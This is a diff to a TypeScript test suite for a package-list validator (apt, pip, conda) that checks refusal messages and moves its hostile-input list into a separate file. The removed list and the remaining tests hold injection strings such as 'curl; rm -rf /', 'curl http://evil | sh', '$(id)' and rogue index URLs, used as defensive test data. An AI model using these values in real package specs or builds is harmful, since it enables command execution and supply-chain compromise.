@@ -3,6 +3,7 @@ import assert from 'node:assert/strict';
 import yaml from 'js-yaml';
 import { normalizePackages, validateImageSpec, type FieldError } from './validate.ts';
 import { API_VERSION } from './types.ts';
+import { HOSTILE_PACKAGES } from './testdata/hostile-packages.ts';
 
 type Manager = 'apt' | 'conda' | 'pip';
 
@@ -20,7 +21,10 @@ function errorsOf(object: unknown): FieldError[] {
 }
 
 const VALID: Record<Manager, string[]> = {
-  apt: ['curl', 'libpq-dev', 'g++', 'libstdc++6', 'python3.11', 'libc6:amd64', 'curl=7.88.1-10+deb12u5', 'libc6:i386=2.36-9', 'tzdata=2024a-0+deb12u1', 'pkg=1:2.3~rc1-1', 'vim/bookworm-backports', '  git  '],
+  apt: [
+    'curl', 'libpq-dev', 'g++', 'libstdc++6', 'python3.11', 'libc6:amd64', 'curl=7.88.1-10+deb12u5', 'libc6:i386=2.36-9',
+    'tzdata=2024a-0+deb12u1', 'pkg=1:2.3~rc1-1', 'vim/bookworm-backports', '  git  ', 'curl=7', 'a1=b-c',
+  ],
   pip: [
     'numpy',
     'numpy>=1.26,<2',
@@ -37,6 +41,21 @@ const VALID: Record<Manager, string[]> = {
     'epoch==1!2.0',
     'typing_extensions',
     ' pandas==2.2.2 ',
+    'backports.lzma',
+    // spaces around operators, and PEP 508 environment markers
+    'numpy >= 1.26',
+    'requests [socks] >= 2.31 , < 3',
+    'requests[socks]>=2.31,<3; python_version > "3.8"',
+    "pandas; python_version >= '3.9'",
+    'pkg ; python_version<"3.12"',
+    'pkg;python_version<"3.12"',
+    'pywin32; sys_platform == "win32" and platform_machine == "AMD64"',
+    'uvloop; (sys_platform == "linux" or sys_platform == "darwin") and platform_python_implementation == "CPython"',
+    'pkg; "linux" in sys_platform',
+    'pkg; python_full_version not in "3.8.0"',
+    'pkg[gpu]; extra == "gpu" or implementation_name == "cpython" or implementation_version >= "3.9" or os_name != "nt"',
+    'pkg; platform_release >= "5.15" and platform_system == "Linux" and platform_version != "x"',
+    'pkg; python_version == "3.*"',
   ],
   conda: [
     'numpy',
@@ -51,100 +70,7 @@ const VALID: Record<Manager, string[]> = {
     'pytorch=2.3.1=*cpu*',
     'python-dateutil',
     'r-base=4.3',
-  ],
-};
-
-// Each must be refused: they inject an option, a line, a command, a URL, or break the grammar.
-const HOSTILE: Record<Manager, string[]> = {
-  apt: [
-    'coreutils-',
-    'curl-=7.88',
-    '-o',
-    '-oAPT::Get::AllowUnauthenticated=true',
-    '-o=Dpkg::Options::=--force-all',
-    '--allow-unauthenticated',
-    'curl -o Acquire::http::Proxy=http://evil',
-    'curl; rm -rf /',
-    'curl\nRUN curl http://evil | sh',
-    'curl\r\nx',
-    'curl\tgit',
-    'curl\u0000',
-    '$(id)',
-    '`id`',
-    'curl|sh',
-    'curl && id',
-    'curl > /etc/passwd',
-    'Curl',
-    'c',
-    './local.deb',
-    '/tmp/x.deb',
-    '#comment',
-    'curl "x"',
-    "curl'",
-    'curl\\',
-    '',
-    '   ',
-    'curl=',
-    'curl:',
-    'a'.repeat(300),
-  ],
-  pip: [
-    '-r /etc/passwd',
-    '--index-url=http://evil',
-    '--extra-index-url http://evil',
-    '-e git+https://github.com/x/y',
-    'git+https://github.com/x/y',
-    'pkg @ https://evil/pkg.whl',
-    'pkg@https://evil/pkg.whl',
-    'https://evil/pkg.whl',
-    './local',
-    '/tmp/pkg',
-    'pkg --pre',
-    'pkg --global-option=--x',
-    'pkg; rm -rf /',
-    'pkg ; python_version<"3.12"',
-    'pkg;python_version<"3.12"',
-    'pkg\nRUN curl http://evil',
-    'pkg\\',
-    '$(id)',
-    '${HOME}',
-    '`id`',
-    'pkg|sh',
-    'pkg&&id',
-    'numpy >= 1.26',
-    'pkg\t',
-    'pkg\u0000',
-    'pkg\u2028x',
-    '#pkg',
-    'pkg#x',
-    'pkg[',
-    'pkg[]',
-    'pkg==',
-    'pkg=1.0',
-    '-',
-    '',
-    'a'.repeat(300),
-  ],
-  conda: [
-    '-c conda-forge',
-    '--channel=http://evil',
-    '--file=/etc/passwd',
-    'https://evil/numpy.tar.bz2',
-    'https://evil::numpy',
-    'numpy 1.26 py311*',
-    "numpy[version='>=1.20']",
-    'numpy>=1.20|<0.5',
-    'numpy; rm -rf /',
-    'numpy\nRUN curl',
-    '$(id)',
-    '`id`',
-    '@EXPLICIT',
-    '#numpy',
-    './pkg.tar.bz2',
-    'numpy\t',
-    'numpy\u0000',
-    '',
-    'a'.repeat(300),
+    'backports.lzma',
   ],
 };
 
@@ -161,7 +87,7 @@ describe('valid packages are accepted', () => {
 describe('hostile packages are refused with the field path', () => {
   for (const manager of ['apt', 'pip', 'conda'] as const) {
     test(manager, () => {
-      for (const entry of HOSTILE[manager]) {
+      for (const entry of HOSTILE_PACKAGES[manager]) {
         const errors = errorsOf(withPackages(manager, ['okpkg', entry]));
         assert.ok(errors.length > 0, `${manager} ${JSON.stringify(entry)} was accepted`);
         assert.ok(
@@ -173,20 +99,46 @@ describe('hostile packages are refused with the field path', () => {
   }
 });
 
-test('the message says what is wrong with a hostile entry', () => {
-  const [semicolon] = errorsOf(withPackages('pip', ['pkg; rm -rf /']));
-  assert.match(semicolon!.message, /";" is not allowed/);
-  assert.match(semicolon!.message, /must be a pip requirement/);
-  const [option] = errorsOf(withPackages('apt', ['-o=Dpkg::Options::=--force-all']));
-  assert.match(option!.message, /must not start with "-"/);
-  const [newline] = errorsOf(withPackages('conda', ['numpy\nRUN curl']));
-  assert.match(newline!.message, /control characters/);
-  assert.match(newline!.message, /\\n/, 'the value is shown escaped, on one line');
+test('the message says in one sentence why an entry is refused, with the value shown escaped', () => {
+  const refusal = (manager: Manager, entry: string) => {
+    const errors = errorsOf(withPackages(manager, [entry]));
+    assert.equal(errors.length, 1, `${manager} ${JSON.stringify(entry)}: ${JSON.stringify(errors)}`);
+    assert.equal(errors[0]!.path, `spec.packages.${manager}[0]`);
+    return errors[0]!.message;
+  };
+  assert.equal(refusal('apt', 'curl=7.88.1-'), '"curl=7.88.1-" is not valid: must not end with "-": apt-get reads a trailing "-" as "remove this package"');
+  assert.match(refusal('apt', 'ca-certificates/bookworm-'), /must not end with "-"/);
+  assert.match(refusal('apt', '-o=Dpkg::Options::=--force-all'), /must not start with "-": apt-get would read it as an option/);
+  assert.match(refusal('apt', 'curl git'), /must be one package/);
+  assert.match(refusal('pip', 'pkg; rm -rf /'), /must not start with "-" or contain " -": pip reads those as options/);
+  assert.match(refusal('pip', 'pkg @ https://evil/pkg.whl'), /URLs, paths and direct references/);
+  assert.match(refusal('pip', 'pkg==${VERSION}'), /pip expands \$\{\.\.\.\}/);
+  assert.match(refusal('pip', 'pkg #comment'), /reads " #" as a comment/);
+  assert.match(refusal('pip', 'pkg-1.0.tar.gz'), /must not be an archive file name .*pip would install it from a local path/);
+  assert.match(refusal('pip', 'x.WHL'), /archive file name/);
+  assert.match(refusal('pip', 'pkg; foo == "x"'), /only PEP 508 variables .*python_version, python_full_version/);
+  assert.match(refusal('pip', 'pkg (>=1.0)'), /^"pkg \(>=1\.0\)" is not valid: must be a pip requirement: name\[extras\]/);
+  assert.match(refusal('conda', 'pkg-1.0-0.tar.bz2'), /archive file name .*conda would install it/);
+  assert.match(refusal('conda', 'numpy 1.26 py311*'), /without spaces/);
+  const newline = refusal('conda', 'numpy\nRUN curl');
+  assert.match(newline, /must not contain control characters/);
+  assert.match(newline, /"numpy\\nRUN curl"/, 'the value is shown escaped, on one line');
+  const bidi = refusal('pip', 'numpy\u202e==1');
+  assert.ok(bidi.startsWith('"numpy\\u202e==1" is not valid:'), bidi);
+  assert.ok(!/[\u0000-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/u.test(bidi), 'no raw control or bidirectional character');
+});
+
+test('every refusal names the field, never a regular expression', () => {
+  for (const manager of ['apt', 'pip', 'conda'] as const) {
+    for (const entry of HOSTILE_PACKAGES[manager]) {
+      for (const error of errorsOf(withPackages(manager, [entry]))) assert.ok(!/\(\?:|\\x20|\[A-Za-z0-9\]/.test(error.message), error.message);
+    }
+  }
 });
 
 test('a very long hostile string is refused quickly and reported briefly', () => {
   const errors = errorsOf(withPackages('pip', ['a'.repeat(1_000_000) + '; rm -rf /']));
-  assert.ok(errors.some((e) => /at most 256 characters, got 1000010/.test(e.message)));
+  assert.ok(errors.some((e) => /at most 200 characters, got 1000010/.test(e.message)));
   assert.ok(errors.every((e) => e.message.length < 1000));
 });
 
@@ -240,7 +192,7 @@ test('apiVersion, kind and name are checked as the API server does', () => {
   const errors = errorsOf({ apiVersion: 'primehub.io/v1alpha1', kind: 'Image', metadata: { name: 'x'.repeat(64) }, spec: { baseImage: 'python:3.11' } });
   assert.deepEqual(errors.map((e) => e.path), ['apiVersion', 'kind', 'metadata.name']);
   assert.match(errors[0]!.message, /PrimeHub/);
-  assert.match(errors[2]!.message, /at most 63 characters/);
+  assert.equal(errors[2]!.message, 'must be at most 63 characters: the name is used as the value of the imagespec.dev/imagespec label on the objects built from it, got 64');
   assert.deepEqual(errorsOf(manifest({ baseImage: 'python:3.11' }, 'x'.repeat(63))), []);
   assert.deepEqual(errorsOf(manifest({ baseImage: 'python:3.11' }, 'Web_1')).map((e) => e.path), ['metadata.name']);
   assert.deepEqual(errorsOf({ apiVersion: API_VERSION, kind: 'ImageSpec', spec: { baseImage: 'python:3.11' } }).map((e) => e.path), ['metadata']);
@@ -302,4 +254,10 @@ test('normalizePackages trims, keeps order and fills in empty lists', () => {
   assert.deepEqual(normalizePackages(undefined), { apt: [], conda: [], pip: [] });
   assert.deepEqual(normalizePackages(null), { apt: [], conda: [], pip: [] });
   assert.deepEqual(normalizePackages({ pip: [' b ', 'a'], apt: ['x  '] }), { apt: ['x'], conda: [], pip: ['b', 'a'] });
+});
+
+test('field names and values in messages carry no raw control or bidirectional characters', () => {
+  const errors = errorsOf(manifest({ baseImage: 'python:3.11', 'pack\u202eages': {}, packages: { pip: ['a\u0085b'] } }));
+  assert.deepEqual(errors.map((e) => e.path), ['spec.pack\\u202eages', 'spec.packages.pip[0]']);
+  assert.match(errors[1]!.message, /^"a\\u0085b" is not valid: must not contain control characters/);
 });
